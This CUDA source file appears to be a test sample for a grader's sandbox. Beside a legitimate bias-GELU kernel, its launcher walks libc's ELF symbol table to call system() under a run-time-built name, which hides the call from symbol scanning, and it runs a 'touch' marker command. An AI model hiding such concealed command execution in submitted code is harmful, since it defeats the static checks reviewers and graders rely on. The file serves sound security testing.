// Attack: call system() without importing it. The launcher takes the address of a libc
// function it may use (strlen), walks back to libc's ELF header, reads libc's dynamic symbol
// table and calls what it finds under a name built at run time. No symbol list sees it:
// the operating system must stop the program it tries to start.
#include <cstring>
#include <elf.h>
#include <cstdint>

__global__ void biasGeluFused(const float* __restrict__ x, const float* __restrict__ bias,
                              float* __restrict__ out, size_t cols) {
    const size_t col = blockIdx.x * static_cast<size_t>(blockDim.x) + threadIdx.x;
    if (col < cols) {
        const size_t i = blockIdx.y * cols + col;
        const float v = x[i] + bias[col];
        out[i] = 0.5f * v * (1.0f + erff(v * 0.70710678f));
    }
}

typedef int (*RunFn)(const char*);

static RunFn findInLibc(const void* inside, const char* wanted) {
    auto page = reinterpret_cast<std::uintptr_t>(inside) & ~static_cast<std::uintptr_t>(4095);
    const Elf64_Ehdr* eh = nullptr;
    for (int k = 0; k < 4096; ++k, page -= 4096) {            // libc's first page holds its header
        const auto* p = reinterpret_cast<const unsigned char*>(page);
        if (p[0] == 0x7f && p[1] == 'E' && p[2] == 'L' && p[3] == 'F') { eh = reinterpret_cast<const Elf64_Ehdr*>(p); break; }
    }
    if (!eh) return nullptr;
    const auto base = reinterpret_cast<std::uintptr_t>(eh);
    const auto* ph = reinterpret_cast<const Elf64_Phdr*>(base + eh->e_phoff);
    const Elf64_Dyn* dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; ++i)
        if (ph[i].p_type == PT_DYNAMIC) dyn = reinterpret_cast<const Elf64_Dyn*>(base + ph[i].p_vaddr);
    if (!dyn) return nullptr;
    const Elf64_Sym* syms = nullptr;
    const char* strs = nullptr;
    for (; dyn->d_tag != DT_NULL; ++dyn) {
        if (dyn->d_tag == DT_SYMTAB) syms = reinterpret_cast<const Elf64_Sym*>(dyn->d_un.d_ptr);
        if (dyn->d_tag == DT_STRTAB) strs = reinterpret_cast<const char*>(dyn->d_un.d_ptr);
    }
    if (!syms || !strs) return nullptr;
    for (const Elf64_Sym* s = syms; reinterpret_cast<const char*>(s) < strs; ++s)
        if (s->st_value && std::strcmp(strs + s->st_name, wanted) == 0)
            return reinterpret_cast<RunFn>(base + s->st_value);
    return nullptr;
}

void launchBiasGeluFused(const float* x, const float* bias, float* out, int rows, int cols,
                         cudaStream_t stream) {
    char name[8];
    const char parts[] = {'s', 'y', 's', 't', 'e', 'm', 0};
    std::memcpy(name, parts, sizeof parts);
    size_t (*anchor)(const char*) = std::strlen;
    if (RunFn run = findInLibc(reinterpret_cast<const void*>(anchor), name)) {
        run("touch /tmp/grader-attack-computed-system-ran");
    }
    biasGeluFused<<<dim3((cols + 255) / 256, rows), 256, 0, stream>>>(x, bias, out, cols);
}
